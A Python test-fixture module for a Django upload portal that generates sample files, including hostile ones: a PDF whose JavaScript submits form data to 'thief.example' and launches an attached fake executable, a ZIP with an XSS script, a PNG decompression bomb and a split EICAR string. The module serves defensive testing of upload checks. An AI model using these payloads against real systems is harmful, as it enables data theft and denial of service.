"""Real files for tests of uploads, good and bad, made when a test asks for them."""

import io
import zipfile
import zlib
from pathlib import Path

from django.conf import settings
from django.core.files.base import File
from django.utils import timezone
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from applicants.models import User
from portal.audit import actor_label
from portal.models import Upload
from portal.uploads.services import checking, receive

RED = (200, 30, 30)
# The industry's test file for virus scanners, in two pieces so that no scanner finds this one.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (320, 200), mode: str = "RGB", **options: object) -> bytes:
    """A picture with a red box on its left half and white on its right."""
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1]), fill=RED)
    target = io.BytesIO()
    image.convert(mode).save(target, kind, **options)
    return target.getvalue()


def pdf(
    pages: int = 1,
    *,
    size: tuple[int, int] = (612, 792),
    password: str | None = None,
    owner_password: str | None = None,
) -> bytes:
    """A PDF of empty pages, US Letter unless `size` in points is given."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(*size)
    if password is not None:
        writer.encrypt(password, owner_password)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    """The bytes of a PDF."""
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def active_pdf() -> bytes:
    """A PDF with JavaScript, a launch action and an attached program."""
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_attachment("run-me.exe", b"MZ this would be a program")
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", "/JS", "app.alert('hello'); this.submitForm('https://thief.example/');"
    )
    writer.root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _action("/Launch", "/F", "run-me.exe")}
    )
    return written(writer)


def giant_page(width: int, height: int) -> bytes:
    """A PDF with one page of `width` x `height` points."""
    return pdf(size=(width, height))


def filled_form(text: str) -> bytes:
    """A PDF whose only content is what somebody typed into its form, without a drawing of it."""
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    field = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("name"),
                NameObject("/V"): TextStringObject(text),
                NameObject("/DA"): TextStringObject("/Helv 40 Tf 0 g"),
                NameObject("/F"): NumberObject(4),
                NameObject("/Rect"): ArrayObject([NumberObject(value) for value in (50, 600, 560, 700)]),
            }
        )
    )
    page[NameObject("/Annots")] = ArrayObject([field])
    fonts = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/Helv"): writer._add_object(font)})})
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([field]),
            NameObject("/DR"): fonts,
            NameObject("/DA"): TextStringObject("/Helv 40 Tf 0 g"),
        }
    )
    return written(writer)


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of exactly these objects, numbered from 1; the first is its catalog."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, rows)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
    return data + table + end


def zip_archive(files: dict[str, str] | None = None) -> bytes:
    """A ZIP archive of `files`: name and content."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in (files or {"a.html": "<script>alert(1)</script>"}).items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return target.getvalue()


def png_bomb(side: int = 50_000) -> bytes:
    """A PNG of a few kilobytes that says it is `side` x `side` pixels of one bit, and is."""
    target = io.BytesIO()
    Image.new("1", (side, 1)).save(target, "PNG")
    small = bytearray(target.getvalue())
    header = small.index(b"IHDR")
    small[header + 8 : header + 12] = side.to_bytes(4, "big")
    crc = zlib.crc32(bytes(small[header : header + 17]))
    small[header + 17 : header + 21] = crc.to_bytes(4, "big")
    return bytes(small)


def sent(data: bytes, name: str | None = "scan.jpg") -> "File[bytes]":
    """What a form hands over, but with a name that Django would have cleaned already."""
    return File(io.BytesIO(data), name)


def take_in(owner: User, data: bytes, name: str | None = "scan.jpg", purpose: str = "passport", **changes) -> Upload:
    """Receive `data` as a form would hand it over."""
    at = changes.get("at") or timezone.now()
    return receive(file=sent(data, name), purpose=purpose, owner=owner, at=at, actor=actor_label(owner))


def checked(upload: Upload) -> Upload:
    """The row after one check."""
    assert checking.check(Upload.objects.filter(pk=upload.pk))
    upload.refresh_from_db()
    return upload


def stored_files() -> list[Path]:
    """Every file of the storage, relative to its folder."""
    folder = Path(settings.UPLOADS_DIR)
    return sorted(path.relative_to(folder) for path in folder.rglob("*") if path.is_file())
